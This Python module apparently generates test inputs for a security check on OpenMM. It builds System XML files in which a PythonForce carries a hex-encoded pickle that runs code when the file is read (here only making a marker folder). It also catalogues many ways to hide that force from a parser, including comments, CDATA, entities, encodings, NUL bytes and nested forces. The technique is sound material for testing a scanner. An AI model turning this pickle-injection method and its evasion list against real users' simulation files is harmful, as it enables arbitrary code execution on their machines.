"""Systems whose XML runs code when OpenMM reads it, hidden in every way that a parser might overlook."""

import binascii
import os
import pickle
from pathlib import Path

__all__ = ["RUN_BY_OPENMM", "attacks"]

_SYSTEM = """<?xml version="1.0" ?>
<System openmmVersion="8.5" type="System" version="1">
<PeriodicBoxVectors><A x="2" y="0" z="0"/><B x="0" y="2" z="0"/><C x="0" y="0" z="2"/></PeriodicBoxVectors>
<Particles>PARTICLES</Particles>
<Constraints/>
<Forces>FORCES</Forces>
</System>
"""

RUN_BY_OPENMM = {
    "plain", "single quotes", "a comment", "a processing instruction", "a CDATA section left open for OpenMM",
    "a reference", "a namespace", "type twice", "collective variables",
    "collective variables of collective variables", "another name of the element", "white space in the tag",
}  # fmt: skip
"""Those at which OpenMM 8.5.2 runs the code when it is given the text as it is; others may be some day."""


class _Touch:
    """Its pickle makes a folder when it is read."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return os.mkdir, (str(self.path),)


def attacks(marker: Path, particles: int = 1) -> dict[str, str | bytes]:
    """XML texts by what hides in them; reading the force inside makes the folder `marker`."""
    function = binascii.hexlify(pickle.dumps(_Touch(marker))).decode()
    rest = f'forceGroup="0" function="{function}" name="f" usesPeriodic="0" version="1"'
    inner = "<GlobalParameters/>"
    force = f'<Force {rest} type="PythonForce">{inner}</Force>'
    combined = (
        '<Force energy="x" forceGroup="0" name="c" type="CustomCVForce" version="0"><GlobalParameters/>'
        '<EnergyParameterDerivatives/><CollectiveVariables><CollectiveVariable name="x">INNER'
        "</CollectiveVariable></CollectiveVariables><Functions/></Force>"
    )
    system = _SYSTEM.replace("PARTICLES", '<Particle mass="12"/>' * particles)

    def within(text: str) -> str:
        return system.replace("FORCES", text)

    plain = within(force)
    spelled = "".join(f"&#x{ord(c):X};" for c in "PythonForce")
    entity = plain.replace("<System", '<!DOCTYPE System [<!ENTITY k "PythonForce">]>\n<System', 1)
    hidden = force.replace("<Force", "<Force", 1)
    return {
        "plain": plain,
        "single quotes": plain.replace('type="PythonForce"', "type='PythonForce'"),
        "a comment": within(f"<!-- > {hidden} -->"),
        "a comment before the root": f"<!-- > {plain} -->" + within(""),
        "a processing instruction": within(f"<?x > {hidden} ?>"),
        "a CDATA section": within(f"<![CDATA[ {hidden} ]]>"),
        "a CDATA section left open for OpenMM": within(f"<![CDATA[>]]>{hidden}"),
        "a reference": plain.replace('"PythonForce"', f'"{spelled}"'),
        "an entity": entity.replace('type="PythonForce"', 'type="&k;"'),
        "a document type": plain.replace("<System", f"<!DOCTYPE System [ <!-- > {hidden} --> ]><System", 1),
        "a namespace": plain.replace("<Force ", '<y:Force xmlns:y="z" y:type="HarmonicBondForce" ').replace(
            "</Force>", "</y:Force>"
        ),
        "type twice": plain.replace('type="PythonForce"', 'type="HarmonicBondForce" type="PythonForce"'),
        "type twice, the other way": plain.replace('type="PythonForce"', 'type="PythonForce" type="HarmonicBondForce"'),
        "collective variables": within(combined.replace("INNER", force)),
        "collective variables of collective variables": within(
            combined.replace("INNER", combined.replace("INNER", force))
        ),
        "another name of the element": within(
            force.replace("<Force", "<Anything", 1).replace("</Force>", "</Anything>")
        ),
        "a table that is a force": within(
            combined.replace("INNER", force.replace("PythonForce", "RMSDForce")).replace(
                "<Functions/>",
                f"<Functions>{force.replace('Force ', 'Function ', 1).replace('/Force', '/Function')}</Functions>",
            )
        ),
        "white space in the tag": plain.replace('type="PythonForce"', '\n\ttype\n=\n"PythonForce"\n'),
        "lower case": plain.replace("PythonForce", "pythonforce"),
        "spaces inside": plain.replace('"PythonForce"', '" PythonForce "'),
        "the root itself": f'<System {rest} type="PythonForce">{inner}</System>',
        "a force alone": force,
        "declared as UTF-7": plain.replace('version="1.0" ?', 'version="1.0" encoding="UTF-7"?'),
        "declared as UTF-16": plain.replace('version="1.0" ?', 'version="1.0" encoding="UTF-16"?'),
        "UTF-16": plain.encode("utf-16"),
        "a byte-order mark": "\ufeff" + plain,
        "NUL before": "\x00" + plain,
        "NUL inside": plain.replace("<Forces>", "<Forces>\x00"),
        "integrator": f'<Integrator {rest} type="PythonForce">{inner}</Integrator>',
        "state": f'<State {rest} type="PythonForce">{inner}</State>',
        "after the root": within("") + force,
        "cut off in a comment": within(f"<!-- {hidden}"),
        "a comment in an attribute": within(f'<Force name="<!--" {rest} type="PythonForce">{inner}</Force><!-- -->'),
        "a TorchForce": plain.replace("PythonForce", "TorchForce"),
    }
